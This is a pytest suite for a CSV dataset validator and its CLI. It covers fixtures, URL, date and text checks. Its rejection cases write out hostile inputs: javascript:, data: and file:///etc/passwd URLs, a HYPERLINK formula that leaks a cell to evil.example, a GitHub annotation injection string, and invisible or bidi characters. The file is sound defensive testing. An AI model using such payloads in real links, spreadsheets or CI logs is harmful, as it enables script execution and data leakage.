"""The data checker: geo/csvfile.py, geo/records/ and the `python -m geo.validate` CLI.

`tests/fixtures/valid/` is a small valid dataset. Every folder under `tests/fixtures/broken/`
is a full copy of it with one deliberate fault (two folders carry several on purpose:
`collect-all`, and `multiline-field-shifts-lines`, whose multi-line field is itself refused
and moves every later line down by one) and an `expected.txt` with the exact problem lines,
paths relative to that folder. A new folder is a new test case.
"""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from collections import Counter
from dataclasses import dataclass
from datetime import date
from pathlib import Path

import pytest

from geo import validate
from geo.csvfile import Problem, read_table
from geo.records import (
    DataError,
    Dataset,
    check_dataset,
    check_url,
    clean_text,
    load_dataset,
    parse_date,
)
from geo.records.fields import no_formula, visible_text
from tests.support.run import run_validate

ROOT = Path(__file__).resolve().parent.parent
FIXTURES = Path(__file__).resolve().parent / "fixtures"
VALID = FIXTURES / "valid"
BROKEN_ROOT = FIXTURES / "broken"
BROKEN = sorted(p for p in BROKEN_ROOT.iterdir() if p.is_dir())
FILE_NAMES = ("jurisdictions.csv", "events.csv", "quotes.csv")
OPTIONAL_FILE_NAMES = {"tallies.csv", "mirrors.csv", "sessions.csv"}
VALID_SUMMARY = "ok: 8 jurisdictions, 13 events, 6 quotes"

# The rules the brief asks a fixture for; more folders are welcome, fewer are a failure.
REQUIRED_RULES = {
    "failed-closes-no-proposal",
    "mirror-source-without-note",
    "read-url-same-as-source",
    "tally-bad-fields",
    "missing-source-url",
    "bad-date-format",
    "impossible-calendar-date",
    "future-date",
    "url-javascript",
    "url-javascript-mixed-case",
    "url-leading-space",
    "url-data",
    "url-file",
    "url-control-char",
    "unknown-jurisdiction-event",
    "unknown-jurisdiction-quote",
    "duplicate-event-id",
    "duplicate-jurisdiction-id",
    "duplicate-event",
    "ragged-row-too-few-fields",
    "extra-field",
    "unknown-column-in-header",
    "missing-required-column",
    "bidi-override-in-summary",
    "control-char-in-name",
    "unknown-status",
    "unknown-level",
    "unknown-stance",
    "geoid-wrong-length",
    "geoid-wrong-state",
    "lat-out-of-range",
    "text-over-length-cap",
    "invalid-utf8",
    "unterminated-quote",
    "multiline-field-shifts-lines",
    "name-outer-spaces",
    "collect-all",
    # Issue 23: formulas, invisible characters, a port that is not a number, empty files.
    "formula-in-speaker",
    "zero-width-in-name",
    "tag-characters-in-quote",
    "bidi-mark-in-measure",
    "url-port-not-a-number",
    "events-no-rows",
    "jurisdictions-no-rows",
    # Issue 22: a quote's caveat comes from a closed list, and a low quote has one.
    "unknown-caveat",
    "low-quote-without-caveat",
}

# Problems found across rows (duplicates, references, place checks) leave the record in the
# dataset (which is refused as a whole); any other problem on a row keeps it out.
KEPT_WITH_PROBLEM = re.compile(
    r"already on line \d+$|is not an id in jurisdictions\.csv$|is not a USPS state code$"
    r"|-digit GEOID$|does not start with \w\w's FIPS code \d\d$|needs lat and lon$"
    r"|has no US state or GEOID$|must be between -\d+ and \d+$"
    r"|has the proposal '.*'$|the proposal it closes|only pending, failed and measure rows name a"
    r" proposal$|says what it covers \(government, police, \.\.\.\)$|have a scope$"
    r"|says what it proposes: ban, rules or authorise$|have a proposal_kind$"
    r"|a bill stands no longer than its session$"
    r"|is the same as source_url; leave it empty$|'original not found' in the note$"
    r"|a low-confidence quote needs a caveat \(one of: [a-z_, ]+\)$"
)


def expected_lines(folder: Path) -> list[str]:
    text = (folder / "expected.txt").read_text(encoding="utf-8")
    return [line for line in text.splitlines() if line]


# --- the fixture folders themselves ---------------------------------------------------------


def test_every_required_rule_has_a_broken_fixture() -> None:
    names = {p.name for p in BROKEN}
    assert REQUIRED_RULES - names == set()


@pytest.mark.parametrize("folder", BROKEN, ids=lambda p: p.name)
def test_broken_fixture_is_complete(folder: Path) -> None:
    assert expected_lines(folder), "expected.txt lists no problem"
    present = {p.name for p in folder.iterdir()}
    missing = set(FILE_NAMES) - present
    assert missing == ({"quotes.csv"} if folder.name == "missing-file" else set())
    assert present - set(FILE_NAMES) - OPTIONAL_FILE_NAMES == {"expected.txt"}


# --- the valid fixture ----------------------------------------------------------------------


def test_valid_fixture_has_no_problem() -> None:
    dataset, problems = check_dataset(VALID, label_root=VALID)
    assert [str(p) for p in problems] == []
    assert (len(dataset.jurisdictions), len(dataset.events), len(dataset.quotes)) == (8, 13, 6)
    assert dataset.summary_line() == VALID_SUMMARY


def test_valid_fixture_loads_with_the_expected_content() -> None:
    dataset = load_dataset(VALID)
    assert isinstance(dataset, Dataset)
    assert dataset.jurisdiction("eu").level == "supranational"
    assert dataset.jurisdiction("wa-king-county").geoid == "53033"
    assert dataset.jurisdiction("ca-state").geoid == "06"
    assert dataset.jurisdiction("ca-oakland").lat == pytest.approx(37.8044)
    quote = next(q for q in dataset.quotes if q.id == "oakland-2019-q1")
    assert quote.text == 'Fixture words: "we do not need this tool."'
    moratorium = next(e for e in dataset.events if e.id == "ca-2019-moratorium")
    assert (moratorium.date, moratorium.when, moratorium.day_known) == (
        "2019-10",
        date(2019, 10, 1),
        False,
    )
    with_events = {e.jurisdiction_id for e in dataset.events}
    assert "ma-state" not in with_events
    assert {j.id for j in dataset.jurisdictions} - with_events == {"ma-state"}


def test_cli_accepts_the_valid_fixture(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(ROOT)
    assert validate.main([str(VALID.relative_to(ROOT))]) == 0
    assert capsys.readouterr() == (VALID_SUMMARY + "\n", "")


def test_valid_fixture_with_crlf_and_bom_reads_the_same(tmp_path: Path) -> None:
    for name in FILE_NAMES:
        text = (VALID / name).read_text(encoding="utf-8")
        (tmp_path / name).write_bytes(("\ufeff" + text.replace("\n", "\r\n")).encode())
    dataset, problems = check_dataset(tmp_path, label_root=tmp_path)
    assert problems == []
    assert dataset == load_dataset(VALID)


def test_crlf_does_not_move_lines_or_columns(tmp_path: Path) -> None:
    source = BROKEN_ROOT / "multiline-field-shifts-lines"
    for name in FILE_NAMES:
        text = (source / name).read_text(encoding="utf-8")
        (tmp_path / name).write_bytes(text.replace("\n", "\r\n").encode())
    _, problems = check_dataset(tmp_path, label_root=tmp_path)
    # Same places; the first control character inside the multi-line field is now CR.
    expected = [line.replace("U+000A", "U+000D") for line in expected_lines(source)]
    assert "events.csv:3:75: summary: contains the control character U+000D" in expected
    assert [str(p) for p in problems] == expected


# --- every broken folder --------------------------------------------------------------------


@pytest.mark.parametrize("folder", BROKEN, ids=lambda p: p.name)
def test_broken_fixture_reports_exactly_the_expected_problems(folder: Path) -> None:
    expected = expected_lines(folder)
    _, problems = check_dataset(folder, label_root=folder)
    shown = [str(p) for p in problems]
    assert set(shown) == set(expected)
    assert len(shown) == len(expected), "a problem is reported more than once"
    with pytest.raises(DataError) as error:
        load_dataset(folder)
    assert len(error.value.problems) == len(expected)


@pytest.mark.parametrize("folder", BROKEN, ids=lambda p: p.name)
def test_cli_exits_1_and_prints_the_expected_problems(
    folder: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """In process: the command's main() as `python -m geo.validate` calls it from the root."""
    monkeypatch.chdir(ROOT)
    relative = folder.relative_to(ROOT).as_posix()
    assert validate.main([relative]) == 1
    out, err = capsys.readouterr()
    assert out.splitlines() == [f"{relative}/{line}" for line in expected_lines(folder)]
    assert err == f"{len(expected_lines(folder))} problem(s) found\n"


@pytest.mark.server
def test_the_command_runs_as_a_module_on_a_broken_folder() -> None:
    """The one subprocess run: `python -m geo.validate` itself, its exit code and streams."""
    folder = BROKEN_ROOT / "collect-all"
    relative = folder.relative_to(ROOT).as_posix()
    result = run_validate(relative)
    assert result.returncode == 1
    assert result.stdout.splitlines() == [f"{relative}/{line}" for line in expected_lines(folder)]
    assert result.stderr == f"{len(expected_lines(folder))} problem(s) found\n"


EXPECTED_LINE = re.compile(r"(?P<path>[^:]+):(?P<line>\d+):(?P<col>\d+): (?P<message>.+)")


def test_github_format_marks_each_problem_at_its_file_line_and_column(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """`--format github`: one `::error` workflow command per expected problem, same order,
    same stderr; data text cannot end the command or start another one."""
    folder = BROKEN_ROOT / "collect-all"
    relative = folder.relative_to(ROOT).as_posix()
    monkeypatch.chdir(ROOT)
    code = validate.main(["--format", "github", relative])
    out, err = capsys.readouterr()
    wanted = []
    for line in expected_lines(folder):
        match = EXPECTED_LINE.fullmatch(line)
        assert match, line
        wanted.append(
            f"::error file={relative}/{match['path']},line={match['line']},col={match['col']},"
            f"title=geo.validate::{match['message']}"
        )
    assert code == 1
    assert out.splitlines() == wanted
    assert err == f"{len(wanted)} problem(s) found\n"
    assert validate.main(["--format=github", relative]) == 1
    assert capsys.readouterr().out == out

    hostile = Problem("a,b:c.csv", 3, 7, "note", "100% bad\r\n::warning::injected")
    assert validate.github_annotation(hostile) == (
        "::error file=a%2Cb%3Ac.csv,line=3,col=7,title=geo.validate::"
        "note: 100%25 bad%0D%0A::warning::injected"
    )


@dataclass(frozen=True)
class RawRow:
    start: int
    end: int
    values: tuple[str, ...]


def raw_rows(path: Path) -> tuple[tuple[str, ...], list[RawRow]]:
    """Header and data records as the plain `csv` module reads them (lenient, no geo code)."""
    if not path.is_file():
        return (), []
    text = path.read_bytes().decode("utf-8", errors="replace").removeprefix("\ufeff")
    reader = csv.reader(io.StringIO(text, newline=""))
    header: tuple[str, ...] = ()
    rows = []
    end = 0
    for record in reader:
        start, end = end + 1, reader.line_num
        if not record:
            continue
        if not header:
            header = tuple(record)
            continue
        rows.append(RawRow(start, end, tuple(record)))
    return header, rows


def _signature(pairs: dict[str, str]) -> tuple[tuple[str, str], ...]:
    return tuple(sorted((k, unicodedata.normalize("NFC", v)) for k, v in pairs.items()))


@pytest.mark.parametrize("folder", [VALID, *BROKEN], ids=lambda p: p.name)
def test_nothing_disappears_silently(folder: Path) -> None:
    """Every raw row is either a validated record or reported; no record comes from nowhere."""
    dataset, problems = check_dataset(folder, label_root=folder)
    records = {
        "jurisdictions.csv": dataset.jurisdictions,
        "events.csv": dataset.events,
        "quotes.csv": dataset.quotes,
    }
    for name in FILE_NAMES:
        header, rows = raw_rows(folder / name)
        mine = [p for p in problems if p.path == name]
        refused = any(p.line == 1 or p.field in ("file", "header") for p in mine)
        unread_from = min(
            (p.line for p in mine if p.reason.startswith("malformed CSV")), default=None
        )
        compared = [c for c in header if c not in ("lat", "lon")]
        made = Counter(_signature({c: str(getattr(r, c)) for c in compared}) for r in records[name])
        dropped = 0
        for row in rows:
            on_row = [p for p in mine if row.start <= p.line <= row.end]
            unread = unread_from is not None and row.start >= unread_from
            reported = refused or unread or bool(on_row)
            should_keep = not (refused or unread) and all(
                KEPT_WITH_PROBLEM.search(p.reason) for p in on_row
            )
            signature = (
                _signature({c: v for c, v in zip(header, row.values, strict=True) if c in compared})
                if len(row.values) == len(header)
                else None
            )
            kept = signature is not None and made[signature] > 0
            if kept:
                made[signature] -= 1
            where = f"{name}:{row.start}: {[str(p) for p in on_row]}"
            assert kept == should_keep, where
            assert kept or reported, f"{where}: dropped without a word"
            dropped += not kept
        assert +made == Counter(), f"{name}: records that match no row"
        assert len(records[name]) + dropped == len(rows), name


def test_collect_all_reports_every_problem_in_every_file() -> None:
    folder = BROKEN_ROOT / "collect-all"
    _, problems = check_dataset(folder, label_root=folder)
    assert Counter(p.path for p in problems) == {
        "jurisdictions.csv": 1,
        "events.csv": 3,
        "quotes.csv": 1,
    }
    # Two problems on one row: both fields, each at its own column.
    assert [(p.line, p.column, p.field) for p in problems if p.path == "events.csv"][:2] == [
        (2, 36, "date"),
        (2, 43, "status"),
    ]


def test_labels_default_to_the_path_as_given() -> None:
    folder = BROKEN_ROOT / "unknown-status"
    _, problems = check_dataset(folder)
    assert [p.path for p in problems] == [str(folder / "events.csv")]


# --- the CLI and FRT_DATA_DIR ---------------------------------------------------------------


def test_frt_data_dir_is_honoured_without_argument(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("FRT_DATA_DIR", str(VALID))
    assert validate.main([]) == 0
    assert capsys.readouterr().out == VALID_SUMMARY + "\n"

    broken = BROKEN_ROOT / "unknown-status"
    monkeypatch.setenv("FRT_DATA_DIR", str(broken))
    assert validate.main([]) == 1
    out = capsys.readouterr().out.splitlines()
    assert len(out) == 1
    path, rest = out[0].split(":", 1)
    assert (ROOT / path).resolve() == (broken / "events.csv").resolve()
    assert rest == expected_lines(broken)[0].split(":", 1)[1]


def test_argument_wins_over_frt_data_dir(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("FRT_DATA_DIR", str(BROKEN_ROOT / "unknown-status"))
    assert validate.main([str(VALID)]) == 0
    assert capsys.readouterr().out == VALID_SUMMARY + "\n"


def test_cli_survives_a_path_through_a_symlink(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    link = tmp_path / "link"
    link.symlink_to(ROOT, target_is_directory=True)
    monkeypatch.chdir(ROOT)
    folder = link / "tests" / "fixtures" / "broken" / "unknown-status"
    assert validate.main([str(folder)]) == 1
    assert capsys.readouterr().out == f"{folder}/{expected_lines(folder)[0]}\n"


@pytest.mark.parametrize(
    ("argv", "code", "stderr"),
    [
        (["a", "b"], 2, "usage: python -m geo.validate [-h] [--format {text,github}] [DATA_DIR]"),
        (["--format", "xml"], 2, "usage: python -m geo.validate [-h] [--format {text,github}]"),
        (["no-such-folder-here"], 1, "no-such-folder-here: not a folder\n"),
    ],
)
def test_cli_refuses_bad_arguments(
    argv: list[str], code: int, stderr: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert validate.main(argv) == code
    captured = capsys.readouterr()
    assert captured.out == ""
    assert captured.err.startswith(stderr)


def test_cli_help_names_every_option(capsys: pytest.CaptureFixture[str]) -> None:
    assert validate.main(["-h"]) == 0
    out = capsys.readouterr().out
    assert out.startswith("usage: python -m geo.validate [-h] [--format {text,github}] [DATA_DIR]")
    assert "FRT_DATA_DIR" in out


def test_real_data_validates(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """The project's own data/."""
    monkeypatch.chdir(ROOT)
    code = validate.main(["data"])
    out = capsys.readouterr().out
    assert code == 0, out[:3000]
    match = re.fullmatch(r"ok: (\d+) jurisdictions, (\d+) events, (\d+) quotes\n", out)
    assert match, out
    jurisdictions, events, quotes = (int(n) for n in match.groups())
    assert jurisdictions >= 45
    assert events >= 90
    assert quotes >= 80


# --- positions: editor lines and columns ----------------------------------------------------

POSITIONS_CSV = 'id,name,note\n"a, ""b""",é,z\n"multi\nline",ü"q,w\nx,y,\n'


@pytest.mark.parametrize("newline", ["\n", "\r\n"], ids=["lf", "crlf"])
def test_cells_know_their_editor_line_and_column(tmp_path: Path, newline: str) -> None:
    path = tmp_path / "t.csv"
    path.write_bytes(POSITIONS_CSV.replace("\n", newline).encode())
    table = read_table(path, "t.csv")
    assert table.problems == ()
    assert table.header == ("id", "name", "note")
    assert table.header_columns == (1, 4, 9)
    got = [
        (row.line, {k: (c.line, c.column, c.value) for k, c in row.cells.items()})
        for row in table.rows
    ]
    assert got == [
        (2, {"id": (2, 1, 'a, "b"'), "name": (2, 12, "é"), "note": (2, 14, "z")}),
        (3, {"id": (3, 1, f"multi{newline}line"), "name": (4, 7, 'ü"q'), "note": (4, 11, "w")}),
        (5, {"id": (5, 1, "x"), "name": (5, 3, "y"), "note": (5, 5, "")}),
    ]


@pytest.mark.parametrize(
    ("content", "problem"),
    [
        (
            "a,b\n1,2,3\n",
            Problem("t.csv", 2, 5, "row", "row has 3 fields, the header has 2 (extra field)"),
        ),
        (
            "a,b\n\n1\n",
            Problem("t.csv", 3, 2, "row", "row has 1 fields, the header has 2 (missing field)"),
        ),
        ("a,b\nxé\xff\n", Problem("t.csv", 2, 3, "file", "is not valid UTF-8 text")),
        ("", Problem("t.csv", 1, 1, "header", "file is empty")),
        ("\n\n", Problem("t.csv", 1, 1, "header", "file has no header row")),
    ],
    ids=["extra", "missing-after-blank-line", "utf8-column-in-characters", "empty", "blank"],
)
def test_read_table_problems(tmp_path: Path, content: str, problem: Problem) -> None:
    path = tmp_path / "t.csv"
    data = content.encode("utf-8").replace("\xff".encode(), b"\xff")
    path.write_bytes(data)
    assert problem in read_table(path, "t.csv").problems


def test_read_table_missing_file(tmp_path: Path) -> None:
    table = read_table(tmp_path / "nope.csv", "nope.csv")
    assert table.problems == (Problem("nope.csv", 1, 1, "file", "file is missing"),)


# --- check_url ------------------------------------------------------------------------------

ACCEPTED_URLS = [
    "https://example.org",
    "http://example.org/",
    "https://example.org/a/b?c=d&e=f#g",
    "https://sub.example.org:8443/x_(y)",
    "https://example.org/caf%C3%A9",
    "https://example.org/" + "a" * 1980,
]

NOT_HTTP = "must be an http:// or https:// link"
HIDDEN = "must not contain spaces, control or invisible characters"
MALFORMED = "is not a well-formed web address"
REJECTED_URLS = [
    ("", "is required"),
    ("javascript:alert(1)", NOT_HTTP),
    ("JAVASCRIPT:alert(1)", NOT_HTTP),
    ("JavaScript:alert(1)", NOT_HTTP),
    ("vbscript:msgbox(1)", NOT_HTTP),
    ("data:text/html;base64,PHNjcmlwdD4=", NOT_HTTP),
    ("file:///etc/passwd", NOT_HTTP),
    ("//evil.com", NOT_HTTP),
    ("http:/x", NOT_HTTP),
    ("https:example.org", NOT_HTTP),
    ("ftp://example.org/", NOT_HTTP),
    ("example.org", NOT_HTTP),
    (" https://x", HIDDEN),
    ("https://x ", HIDDEN),
    ("https://x y", HIDDEN),
    ("https://a\u200bb.com", HIDDEN),
    ("https://example.org/\u202e", HIDDEN),
    ("https://exa\tmple.org", HIDDEN),
    ("https://example.org/\n", HIDDEN),
    ("\u00a0https://example.org", HIDDEN),
    ("https://example.org/\x00", HIDDEN),
    ("\ufeffhttps://example.org", HIDDEN),
    ("https://", MALFORMED),
    ("https:///path", MALFORMED),
    ("https://user@evil.example", MALFORMED),
    ("https://example.org\\@evil.example/", MALFORMED),
    ("https://example.org\\evil", MALFORMED),
    ("https://example.org/" + "a" * 1981, "is 2001 characters long; the limit is 2000"),
]


@pytest.mark.parametrize("url", ACCEPTED_URLS)
def test_check_url_accepts(url: str) -> None:
    assert check_url(url) == url


@pytest.mark.parametrize(
    ("url", "reason"), REJECTED_URLS, ids=[repr(u)[:40] for u, _ in REJECTED_URLS]
)
def test_check_url_rejects(url: str, reason: str) -> None:
    with pytest.raises(ValueError) as error:
        check_url(url)
    assert str(error.value) == reason


def test_check_url_rejects_an_unparseable_host() -> None:
    with pytest.raises(ValueError):
        check_url("http://[::1")


# --- parse_date -----------------------------------------------------------------------------

TODAY = date(2024, 6, 15)
FORMAT = "must be YYYY-MM-DD, or YYYY-MM when the day is unknown"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("2021-02-28", date(2021, 2, 28)),
        ("2020-02-29", date(2020, 2, 29)),
        ("2021-02", date(2021, 2, 1)),
        ("2000-01-01", date(2000, 1, 1)),
        ("2000-01", date(2000, 1, 1)),
        ("2024-06-15", TODAY),
        ("2024-06", date(2024, 6, 1)),
    ],
)
def test_parse_date_accepts(text: str, expected: date) -> None:
    assert parse_date(text, today=TODAY) == expected


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("2021-02-30", "2021-02-30 is not a real calendar date"),
        ("2021-02-29", "2021-02-29 is not a real calendar date"),
        ("2021-04-31", "2021-04-31 is not a real calendar date"),
        ("2021-13", "2021-13 is not a real calendar date"),
        ("2021-00-10", "2021-00-10 is not a real calendar date"),
        ("2021-1-5", FORMAT),
        ("2021/01/05", FORMAT),
        ("05/01/2021", FORMAT),
        ("21-01-05", FORMAT),
        ("2021", FORMAT),
        ("", FORMAT),
        (" 2021-01-05", FORMAT),
        ("2021-01-05 ", FORMAT),
        ("2021-01-05\n", FORMAT),
        ("2021-01-05T00:00", FORMAT),
        ("２０２１-01-05", FORMAT),
        ("٢٠٢١-٠١-٠٥", FORMAT),
        ("1999-12-31", "is before 2000"),
        ("1999-12", "is before 2000"),
        ("2024-06-16", "2024-06-16 is in the future"),
        ("2024-07", "2024-07 is in the future"),
    ],
)
def test_parse_date_rejects(text: str, reason: str) -> None:
    with pytest.raises(ValueError) as error:
        parse_date(text, today=TODAY)
    assert str(error.value) == reason


def test_parse_date_defaults_to_the_real_today() -> None:
    assert parse_date(date.today().isoformat()) == date.today()
    with pytest.raises(ValueError, match="in the future"):
        parse_date("2099-01-01")


# --- clean_text -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("e\u0301", "é"),
        ("Montre\u0301al fixture", "Montréal fixture"),
        ("plain text", "plain text"),
        ("\ufb01", "\ufb01"),  # NFC, not NFKC: the ligature stays
        ("", ""),
    ],
)
def test_clean_text_normalises_to_nfc(text: str, expected: str) -> None:
    assert clean_text(text) == expected
    assert len(clean_text(text)) == len(expected)


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("\u202eabc", "contains the bidi control character U+202E"),
        ("a\u202ab", "contains the bidi control character U+202A"),
        ("a\u2066b\u2069", "contains the bidi control character U+2066"),
        ("a\x07b", "contains the control character U+0007"),
        ("a\tb", "contains the control character U+0009"),
        ("a\nb", "contains the control character U+000A"),
        ("a\x7fb", "contains the control character U+007F"),
        ("a\x85b", "contains the control character U+0085"),
        ("\x1b[31mred", "contains the control character U+001B"),
        (" x", "has leading or trailing spaces"),
        ("x ", "has leading or trailing spaces"),
        ("\u00a0x", "has leading or trailing spaces"),
    ],
)
def test_clean_text_rejects(text: str, reason: str) -> None:
    with pytest.raises(ValueError) as error:
        clean_text(text)
    assert str(error.value) == reason


def test_broken_folder_discovery_finds_the_fixtures() -> None:
    assert len(BROKEN) >= len(REQUIRED_RULES)


# --- issue 23: formulas, invisible characters, ports ----------------------------------------


@pytest.mark.parametrize(
    "text",
    ["=HYPERLINK(\"https://evil.example/?leak=\"&B2,\"x\")", "+1+cmd", "-2+3", "@SUM(A1)",
     "=1", "--1", "-x", "+"],
)  # fmt: skip
def test_no_formula_refuses_a_formula_lead(text: str) -> None:
    with pytest.raises(ValueError, match="reads as a formula"):
        no_formula(text)


@pytest.mark.parametrize(
    "text", ["-", "7-0", "-5", "+1", "-122.4", "3 votes", "a = b", "e-mail", "x@y", ""]
)
def test_no_formula_accepts_plain_text_numbers_and_a_lone_dash(text: str) -> None:
    assert no_formula(text) == text


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("a\u200bb", "contains the zero-width character U+200B"),
        ("a\u200cb", "contains the zero-width character U+200C"),
        ("a\u200db", "contains the zero-width character U+200D"),
        ("a\u2060b", "contains the zero-width character U+2060"),
        ("a\ufeffb", "contains the zero-width character U+FEFF"),
        ("a\U000e0041b", "contains the invisible tag character U+E0041"),
        ("flag\U000e007f", "contains the invisible tag character U+E007F"),
        ("\u200d\u2696", "contains the zero-width character U+200D"),
        ("x\u200d\u2696", "contains the zero-width character U+200D"),
    ],
)
def test_visible_text_refuses_invisible_characters(text: str, reason: str) -> None:
    with pytest.raises(ValueError) as error:
        visible_text(text)
    assert str(error.value) == reason


@pytest.mark.parametrize("text", ["👩🏽\u200d⚖️", "👨\u200d👩\u200d👧", "🏳️\u200d🌈", "plain"])
def test_visible_text_allows_a_joiner_inside_an_emoji_sequence(text: str) -> None:
    assert visible_text(text) == text


@pytest.mark.parametrize("mark", ["\u200e", "\u200f", "\u061c"])
def test_clean_text_refuses_the_bidi_marks(mark: str) -> None:
    with pytest.raises(ValueError, match=f"bidi control character U\\+{ord(mark):04X}"):
        clean_text(f"a{mark}b")


@pytest.mark.parametrize(
    "url",
    ["https://javascript:window.__x=118/", "https://example.org:99999/", "http://host:-1/",
     "https://example.org:8o/", "https://:443/"],
)  # fmt: skip
def test_check_url_refuses_a_port_that_does_not_parse_or_no_host(url: str) -> None:
    with pytest.raises(ValueError, match="is not a well-formed web address"):
        check_url(url)


@pytest.mark.parametrize("url", ["https://example.org:8443/x", "http://example.org:80"])
def test_check_url_accepts_a_numeric_port(url: str) -> None:
    assert check_url(url) == url


def test_the_real_data_passes_the_new_rules() -> None:
    """The project's own data has no formula, invisible character or bad port (issue 23)."""
    _, problems = check_dataset(ROOT / "data", label_root=ROOT)
    assert [str(p) for p in problems] == []


# --- issue 22: a quote's caveat -------------------------------------------------------------

CAVEAT_LIST = "copy_only, via_other_outlet, speaker_unconfirmed, attribution_doubt, " + (
    "date_approximate, wording_unchecked, wording_differs"
)


@pytest.mark.parametrize(
    ("confidence", "caveat", "reason"),
    [
        ("low", "copy_only", None),
        ("low", "date_approximate; copy_only", None),
        ("low", "date_approximate;copy_only", None),
        ("medium", "", None),
        ("medium", "via_other_outlet", None),
        ("high", "", None),
        ("high", "wording_differs", None),
        ("low", "", f"a low-confidence quote needs a caveat (one of: {CAVEAT_LIST})"),
        ("medium", "hearsay", f"'hearsay' is not one of: {CAVEAT_LIST}"),
        ("low", "copy_only; hearsay", f"'hearsay' is not one of: {CAVEAT_LIST}"),
        ("low", "Copy_Only", f"'Copy_Only' is not one of: {CAVEAT_LIST}"),
        ("low", "copy_only; copy_only", "'copy_only' is given twice"),
        ("low", "copy_only;", "has an empty code: separate codes with one semicolon"),
        ("low", " copy_only", "has leading or trailing spaces"),
    ],
)
def test_a_quote_caveat_is_a_known_code_and_a_low_quote_has_one(
    tmp_path: Path, confidence: str, caveat: str, reason: str | None
) -> None:
    """The portland fixture quote (line 5) with this confidence and caveat: either no problem,
    or exactly one, at the caveat cell's line and column."""
    for name in FILE_NAMES:
        (tmp_path / name).write_bytes((VALID / name).read_bytes())
    path = tmp_path / "quotes.csv"
    lines = path.read_text(encoding="utf-8").split("\n")
    tail = ",low,Fixture: the day is not known,,date_approximate"
    assert lines[4].startswith("portland-2020-q1,") and lines[4].endswith(tail)
    head = lines[4].removesuffix(tail)
    lines[4] = f"{head},{confidence},,,{caveat}"
    path.write_text("\n".join(lines), encoding="utf-8")
    _, problems = check_dataset(tmp_path, label_root=tmp_path)
    column = len(lines[4]) - len(caveat) + 1
    expected = [] if reason is None else [f"quotes.csv:5:{column}: caveat: {reason}"]
    assert [str(p) for p in problems] == expected


def test_a_file_without_the_caveat_column_still_reads_as_no_caveats(tmp_path: Path) -> None:
    """The column is optional in the header: a file written before it existed validates, its
    low quotes included (there is no caveat to check), and reads as having none."""
    for name in FILE_NAMES:
        (tmp_path / name).write_bytes((VALID / name).read_bytes())
    path = tmp_path / "quotes.csv"
    rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
    columns = [c for c in rows[0] if c != "caveat"]
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, columns, extrasaction="ignore", lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    path.write_text(buffer.getvalue(), encoding="utf-8")
    dataset, problems = check_dataset(tmp_path, label_root=tmp_path)
    assert problems == []
    assert any(q.confidence == "low" for q in dataset.quotes)
    assert all(q.caveats == () for q in dataset.quotes)


def test_the_project_data_gives_every_low_quote_a_caveat() -> None:
    """data/quotes.csv carries the column, so the low-quote rule applies to it."""
    header = (ROOT / "data" / "quotes.csv").read_text(encoding="utf-8").split("\n", 1)[0]
    assert header.split(",")[-1] == "caveat"
    dataset = load_dataset(ROOT / "data")
    low = [q for q in dataset.quotes if q.confidence == "low"]
    assert low and all(q.caveats for q in low)
    fixture = {q.id: q.caveats for q in load_dataset(VALID).quotes}
    assert fixture["portland-2020-q1"] == ("date_approximate",)
